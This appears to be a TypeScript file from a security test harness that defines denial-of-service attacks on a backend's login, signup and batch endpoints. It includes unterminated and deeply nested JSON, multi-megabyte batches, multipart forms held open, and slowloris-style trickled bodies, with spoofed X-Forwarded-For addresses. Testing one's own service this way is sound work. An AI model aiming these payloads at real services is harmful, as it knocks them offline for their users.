import { connect, type Socket } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import { type Attack, repeat, type Target, times, untilAborted } from './attack.ts';
import { anAddress } from './caller.ts';

const megabyte = 1_048_576;

/** What is sent before, or instead of, anything that makes sense. */
export const bodies: readonly Attack[] = [
  {
    name: 'a JSON text that never ends',
    finding: 1,
    callers: ['anonymous'],
    prepare: async ({ anonymous }) => {
      const raw = `{"email":"${'\\"'.repeat(500_000)}`;
      return (signal) =>
        repeat(signal, { atOnce: 4, most: 2000 }, () =>
          anonymous.post('/auth-collections/login', undefined, { raw }),
        );
    },
  },
  {
    name: 'bodies nested half a million deep',
    callers: ['anonymous', 'API key'],
    prepare: async ({ anonymous, server, newCollection }) => {
      const path = await newCollection({ rules: { create: 'public' } });
      const deep = `{"a":${'['.repeat(500_000)}`;
      const whole = `{"a":${'['.repeat(200_000)}${']'.repeat(200_000)}}`;
      return (signal) =>
        repeat(signal, { atOnce: 4, most: 2000 }, (n) =>
          (n % 2 === 0 ? anonymous : server).post(path, undefined, { raw: n % 3 === 0 ? deep : whole }),
        );
    },
  },
  {
    name: 'bodies of 100,000 names',
    callers: ['anonymous', 'API key'],
    prepare: async ({ anonymous, server, newCollection }) => {
      const path = await newCollection({ rules: { create: 'public' } });
      const names = times(90_000, (n) => `"n${n}":0`).join(',');
      const links = times(
        25_000,
        (n) => `"a${n}_id":"01890000-0000-7000-8000-${String(n).padStart(12, '0')}"`,
      );
      const raws = [`{${names}}`, `{${links.slice(0, 15_000).join(',')}}`];
      return (signal) =>
        repeat(signal, { atOnce: 6, most: 1000 }, (n) =>
          (n % 2 === 0 ? anonymous : server).post(path, undefined, { raw: raws[n % 2]! }),
        );
    },
  },
  {
    name: 'batches of millions of empty documents',
    finding: 9,
    callers: ['anonymous'],
    prepare: async ({ anonymous, newCollection }) => {
      const open = await newCollection({ rules: { create: 'public' } });
      const raw = `{"documents":[${'{},'.repeat(5_000_000)}{}]}`;
      return (signal) =>
        repeat(signal, { atOnce: 6, most: 60 }, (n) =>
          anonymous.post(`${n % 2 === 0 ? open : '/collections/nothing'}/batch`, undefined, { raw }),
        );
    },
  },
  {
    name: 'batches of 16 MB',
    finding: 9,
    callers: ['API key'],
    prepare: async ({ server, newCollection }) => {
      const path = await newCollection();
      const list = times(1500, (n) => n * 1.5);
      const raw = JSON.stringify({ documents: times(1000, (n) => ({ n, list })) });
      return (signal) =>
        repeat(signal, { atOnce: 8, most: 40 }, () => server.post(`${path}/batch`, undefined, { raw }));
    },
  },
  {
    name: 'forms of many texts, held open',
    finding: 19,
    callers: ['anonymous'],
    prepare: async (target) => (signal) =>
      repeat(signal, { atOnce: 12, most: 24 }, async () => {
        const socket = await begin(target, 'POST', '/auth-collections/signup', {
          'Content-Type': 'multipart/form-data; boundary=b',
          'Content-Length': String(120 * megabyte),
        });
        for (let n = 0; n < 115 && !signal.aborted && !socket.destroyed; n += 1)
          await write(
            socket,
            `--b\r\nContent-Disposition: form-data; name="t${n}"\r\n\r\n${'x'.repeat(megabyte)}\r\n`,
          );
        await untilAborted(signal);
        socket.destroy();
      }),
  },
  {
    name: 'bodies that come byte by byte',
    callers: ['anonymous'],
    prepare: async (target) => {
      const path = await target.newCollection({ rules: { create: 'public' } });
      return (signal) =>
        repeat(signal, { atOnce: 300, most: 300 }, async (n) => {
          const socket = await begin(target, 'POST', n % 2 === 0 ? path : `${path}/batch`, {
            'Content-Type': 'application/json',
            'Content-Length': String((n % 2 === 0 ? 1 : 16) * megabyte),
          });
          while (!signal.aborted && !socket.destroyed) {
            await write(socket, ' ');
            await sleep(100);
          }
          socket.destroy();
        });
    },
  },
];

/** The head of a call whose body is still to come. */
async function begin(
  { url, ref }: Target,
  method: string,
  path: string,
  headers: Record<string, string>,
): Promise<Socket> {
  const { hostname, port } = new URL(url);
  const socket = connect(Number(port), hostname);
  socket.on('error', () => {});
  socket.resume();
  const head = { Host: 'localhost', 'X-Forwarded-For': anAddress(), ...headers };
  const lines = Object.entries(head).map(([name, value]) => `${name}: ${value}\r\n`);
  await write(socket, `${method} /p/${ref}${path} HTTP/1.1\r\n${lines.join('')}\r\n`);
  return socket;
}

const write = (socket: Socket, text: string) =>
  new Promise<void>((resolve) => {
    if (socket.destroyed) return resolve();
    socket.once('close', () => resolve());
    socket.write(text, () => resolve());
  });
